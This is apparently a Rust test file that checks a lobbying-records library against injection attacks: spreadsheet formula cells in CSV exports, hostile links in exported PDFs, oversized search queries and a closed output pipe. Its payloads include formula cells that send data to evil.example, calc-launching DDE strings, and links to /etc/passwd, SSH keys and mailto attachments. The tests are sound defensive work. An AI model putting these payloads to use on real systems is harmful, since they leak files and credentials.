//! Attacks on what the core writes out and what it takes as a query: a
//! report cell that would run as a spreadsheet formula, packet links to
//! local files and scripts, queries built to hold the index for minutes or
//! to trip tantivy's assertions, and a reader that closes the CLI's pipe.
//! Each test performs the attack against a real library in a temporary
//! folder and checks that it gets nowhere.

use std::io::Read;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use chrono::NaiveDate;
use dossier::engagements::{EngagementKind, NewEngagement};
use dossier::export::ExportOptions;
use dossier::officials::{Chamber, NewOfficial, NewRole};
use dossier::packets::NewPacket;
use dossier::search::{SearchKind, SearchRequest, SearchResults, MAX_LIMIT, MAX_QUERY_CHARS, MAX_QUERY_TERMS};
use dossier::settings::Setting;
use dossier::{Library, Message};
use lopdf::{Document, Object};

use crate::util::{add_paper, dossier, TempLibrary};

fn day(text: &str) -> NaiveDate {
    NaiveDate::parse_from_str(text, "%Y-%m-%d").expect("a test date")
}

// ---- The lobbying CSV opened in a spreadsheet.

/// The records of a CSV as RFC 4180 reads it (every field quoted, as this
/// crate writes them).
fn csv_records(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).expect("UTF-8").trim_start_matches('\u{feff}');
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => assert_eq!(chars.next(), Some('\n'), "records end in CRLF"),
            (false, '\n') => panic!("a bare line feed outside quotes"),
            (false, c) => panic!("{c:?} outside quotes: every field is quoted"),
        }
        if !quoted && c == '\r' {
            record.push(std::mem::take(&mut field));
            records.push(std::mem::take(&mut record));
        }
    }
    records
}

#[test]
fn a_csv_cell_that_would_run_as_a_formula_is_written_as_text() {
    let mut t = TempLibrary::new();
    // Leading white space is trimmed when records are saved; the cells that
    // start with it are the csv module's unit tests.
    let attacks = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "=WEBSERVICE(\"https://evil.example/\"&A2)",
        "＝1+1",
    ];
    let official = t
        .lib
        .add_official(NewOfficial {
            given_name: attacks[1].into(),
            family_name: attacks[0].into(),
            chamber: Chamber::House,
            party: String::new(),
            constituency: String::new(),
            roles: vec![NewRole {
                title: attacks[2].into(),
                branch: attacks[3].into(),
                institution: attacks[5].into(),
                started_on: day("2025-01-01"),
                ended_on: None,
            }],
        })
        .expect("an office holder with hostile names is recorded as typed");
    t.lib.set_setting(Setting::Registrant, "=1+1").expect("a registrant");
    t.lib
        .add_engagement(NewEngagement {
            kind: EngagementKind::Meeting,
            date: day("2026-10-05"),
            time: None,
            place: String::new(),
            campaign_id: None,
            subject: attacks[4].into(),
            notes: String::new(),
            follow_ups: String::new(),
            attendees: String::new(),
            reportable: None,
            official_ids: vec![official.id],
            papers: vec![],
            subjects: vec![],
            logged_by: "Test Staff".into(),
        })
        .expect("a meeting");
    let report = t.lib.lobbying_report("2026-10".parse().unwrap(), day("2026-10-31")).expect("the report");
    let records = csv_records(&dossier::lobbying::csv::to_csv(&report));
    assert_eq!(records.len(), 2, "the header and one row: {records:?}");
    let row = &records[1];
    for (field, typed) in [
        (&row[2], attacks[0]),
        (&row[3], attacks[1]),
        (&row[4], attacks[2]),
        (&row[5], attacks[3]),
        (&row[6], attacks[5]),
        (&row[8], attacks[4]),
        (&row[10], "=1+1"),
    ] {
        assert_eq!(field, &format!("'{typed}"), "an apostrophe makes the cell text, the rest is as typed");
    }
    for field in records.iter().flatten() {
        let starts = field.trim_start().chars().next();
        assert!(
            !matches!(starts, Some('=' | '+' | '-' | '@')) && !field.starts_with(['\t', '\r']),
            "no cell of the CSV may start a formula: {field:?}"
        );
    }
    assert_eq!(row[0], "2026-10-05", "a date is left as it is");
    assert_eq!(row[11], "1", "the engagement number is left as it is");
}

// ---- Links in a packet PDF.

/// Every URI a link annotation of the PDF opens, page by page.
fn link_uris(doc: &Document) -> Vec<String> {
    let mut uris = Vec::new();
    for page in doc.get_pages().into_values() {
        let page = doc.get_dictionary(page).expect("a page dictionary");
        let Ok(annots) = page.get(b"Annots").and_then(Object::as_array) else { continue };
        for annot in annots {
            let annot = match annot {
                Object::Reference(id) => doc.get_dictionary(*id).expect("an annotation"),
                Object::Dictionary(d) => d,
                other => panic!("an annotation is a dictionary, not {other:?}"),
            };
            let Ok(action) = annot.get(b"A").and_then(Object::as_dict) else { continue };
            if let Ok(Object::String(bytes, _)) = action.get(b"URI") {
                uris.push(String::from_utf8_lossy(bytes).into_owned());
            }
        }
    }
    uris
}

#[test]
fn a_packet_pdf_links_only_to_web_and_mail_addresses() {
    let mut t = TempLibrary::new();
    let body = "Read [our page](https://example.org/position) or [write to us](mailto:office@example.org).\n\n\
                Then [the file](file:///etc/passwd), [the share](smb://attacker.example/share), \
                [a script](javascript:app.alert(1)), [a data page](data:text/html,hi), \
                [the library](../library.sqlite) and <file:///home/user/.ssh/id_ed25519>.";
    let paper = add_paper(&mut t.lib, "Links of every kind", body).paper_id;
    t.lib.publish(paper, None, None).expect("publish");
    let packet = t.lib.create_packet(NewPacket { title: "Links".into(), ..NewPacket::default() }).expect("packet").id;
    t.lib.add_packet_item(packet, paper, None).expect("add the paper");
    let out = t.dir.path().join("links.pdf");
    t.lib.export_packet(packet, &ExportOptions { out: out.clone(), ..ExportOptions::default() }).expect("export");

    let doc = Document::load(&out).expect("a well-formed PDF");
    let mut uris = link_uris(&doc);
    // A link cut across two lines has an area on each.
    uris.sort();
    uris.dedup();
    assert_eq!(
        uris,
        ["https://example.org/position", "mailto:office@example.org"],
        "only http, https and mailto links become clickable; the others are printed as text"
    );
}

#[test]
fn attack_a_mail_link_in_a_packet_pdf_attaches_nothing() {
    // A mail program may attach a file a `mailto:` link names, or copy
    // someone, without the reader seeing it: the PDF's link keeps only the
    // recipient, subject and body.
    let mut t = TempLibrary::new();
    let body = "[Write to us](mailto:office@example.org?subject=Bill%20C-11&attach=/etc/passwd&Cc=x@attacker.example&body=Hello) \
                or [to the clerk](MAILTO:clerk@example.org?%61ttach=%2Fhome%2Fuser%2F.ssh%2Fid_ed25519&Attachment=file:///etc/shadow).";
    let paper = add_paper(&mut t.lib, "Mail links", body).paper_id;
    t.lib.publish(paper, None, None).expect("publish");
    let packet = t.lib.create_packet(NewPacket { title: "Mail".into(), ..NewPacket::default() }).expect("packet").id;
    t.lib.add_packet_item(packet, paper, None).expect("add the paper");
    let out = t.dir.path().join("mail.pdf");
    t.lib.export_packet(packet, &ExportOptions { out: out.clone(), ..ExportOptions::default() }).expect("export");

    let doc = Document::load(&out).expect("a well-formed PDF");
    let mut uris = link_uris(&doc);
    uris.sort();
    uris.dedup();
    assert_eq!(uris, ["mailto:clerk@example.org", "mailto:office@example.org?subject=Bill%20C-11&body=Hello"]);
}

// ---- Queries.

fn searchable_library() -> (TempLibrary, i64, i64) {
    let mut t = TempLibrary::new();
    // The order matters for the tantivy assertion: the first housing paper
    // must come before the first one holding the excluded phrase.
    let plain = add_paper(&mut t.lib, "Housing policy", "A housing policy for the new city, in draft.").paper_id;
    let phrase = add_paper(
        &mut t.lib,
        "Housing and return",
        "Housing, co-operation and the right of return for every refugee family.",
    )
    .paper_id;
    (t, plain, phrase)
}

fn search(lib: &mut Library, query: &str) -> SearchResults {
    lib.search(&SearchRequest::new(query)).unwrap_or_else(|e| panic!("{query:?} is answered: {e}"))
}

fn papers(r: &SearchResults) -> Vec<i64> {
    let mut ids: Vec<i64> = r.hits.iter().filter(|h| h.kind == SearchKind::Paper).map(|h| h.id).collect();
    ids.sort();
    ids
}

#[test]
fn ten_thousand_unknown_words_are_refused_before_the_index_is_read() {
    let (mut t, _, _) = searchable_library();
    let words: Vec<String> = (0..10_000).map(|i| format!("zqx{i}vb")).collect();
    let started = Instant::now();
    let err = t.lib.search(&SearchRequest::new(words.join(" "))).expect_err("a query nobody types is refused");
    assert!(started.elapsed() < Duration::from_secs(2), "refused at once, not after 10,000 dictionary scans: {:?}", started.elapsed());
    assert_eq!(err.code(), "invalid");
    let chars = words.join(" ").chars().count() as i64;
    assert_eq!(err.message(), Message::SearchQueryTooLong { chars, max: MAX_QUERY_CHARS as i64 });
    assert!(err.to_string().contains("at most 1000"), "the limit is named: {err}");

    let many: Vec<String> = (0..=MAX_QUERY_TERMS).map(|i| format!("w{i}")).collect();
    let query = many.join(" ");
    assert!(query.chars().count() <= MAX_QUERY_CHARS, "short enough that only the term count refuses it");
    let err = t.lib.search(&SearchRequest::new(query)).expect_err("65 terms are refused");
    assert_eq!(err.message(), Message::SearchTooManyTerms { terms: 65, max: MAX_QUERY_TERMS as i64 });

    let most = many[..MAX_QUERY_TERMS].join(" ");
    assert!(t.lib.search(&SearchRequest::new(most)).is_ok(), "64 terms are the most, and allowed");
    let longest = format!("housing {}", "x".repeat(MAX_QUERY_CHARS - 8));
    assert!(t.lib.search(&SearchRequest::new(longest)).is_ok(), "1,000 characters are the most, and allowed");
}

#[test]
fn an_overlong_query_is_refused_by_the_cli_with_the_limit_and_no_panic() {
    let (t, _, _) = searchable_library();
    let query = "housing ".repeat(200);
    let out = dossier(&t.root(), &["search", &query]);
    assert_eq!(out.status.code(), Some(1), "a refusal, not a crash");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.starts_with("error: the search is 1600 characters long; at most 1000 are allowed"), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn a_huge_limit_is_held_to_the_ceiling_instead_of_aborting_in_tantivy() {
    let (mut t, plain, phrase) = searchable_library();
    let request = SearchRequest { limit: usize::MAX, ..SearchRequest::new("housing") };
    let r = t.lib.search(&request).expect("a request built by hand with the largest limit is answered");
    assert_eq!(papers(&r), [plain, phrase], "every hit, as with any limit above the count");

    for limit in [usize::MAX.to_string(), (MAX_LIMIT * 1000).to_string()] {
        let out = dossier(&t.root(), &["search", "housing", "--limit", &limit, "--json"]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "--limit {limit} is brought within the ceiling: {stderr}");
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON results");
        assert_eq!(json["hits"].as_array().map(Vec::len), Some(2), "both papers");
    }
}

#[test]
fn an_excluded_phrase_or_split_word_does_not_trip_tantivys_assertion() {
    let (mut t, plain, _) = searchable_library();
    // Before, each of these panicked any build with debug assertions (the
    // tests, `cargo tauri dev`): tantivy's exclusion asked the phrase scorer
    // about a document behind the one it stood on.
    for query in ["housing -\"right of return\"", "housing -co-operation", "housing -co-op*", "-\"right of return\" housing"] {
        assert_eq!(papers(&search(&mut t.lib, query)), [plain], "{query:?} leaves out the paper that holds it");
    }
}

#[test]
fn a_quoted_single_word_is_searched_instead_of_dropped() {
    let (mut t, plain, phrase) = searchable_library();
    assert_eq!(papers(&search(&mut t.lib, "\"housing\"")), [plain, phrase], "a quoted word is a word that must match");
    assert_eq!(papers(&search(&mut t.lib, "housing -\"draft\"")), [phrase], "a quoted word excluded removes its paper");
    assert_eq!(papers(&search(&mut t.lib, "\"refugee\" housing")), [phrase], "a quoted word narrows like any other");
    assert!(
        papers(&search(&mut t.lib, "\"refugees\"")).is_empty(),
        "quoted, a word is matched as written, not by its stem"
    );
    assert_eq!(papers(&search(&mut t.lib, "refugees")), [phrase], "unquoted, the stem matches");
}

// ---- The CLI's reader going away.

#[test]
fn the_cli_stops_quietly_when_the_reader_of_its_output_goes_away() {
    let mut t = TempLibrary::new();
    t.lib.load_sample(dossier::sample::WRITTEN_ON).expect("the sample library");
    for args in [&["engagement", "list", "--json"][..], &["paper", "list"][..], &["search", "election"][..]] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_dossier"))
            .arg("--library")
            .arg(t.root())
            .args(args)
            .env_remove("DOSSIER_LIBRARY")
            .env("NO_COLOR", "1")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("run dossier");
        // Closed before the command has opened the library, so its first
        // write meets a pipe nobody reads (`| head -c 0`).
        drop(child.stdout.take());
        let mut stderr = String::new();
        child.stderr.take().expect("stderr").read_to_string(&mut stderr).expect("read stderr");
        let status = child.wait().expect("dossier ends");
        assert!(!stderr.contains("panicked"), "`dossier {}` must not panic: {stderr}", args.join(" "));
        assert_eq!(stderr, "", "`dossier {}` stops without a word", args.join(" "));
        assert!(status.success(), "`dossier {}`: the reader wanted no more, nothing failed: {status}", args.join(" "));
    }
}
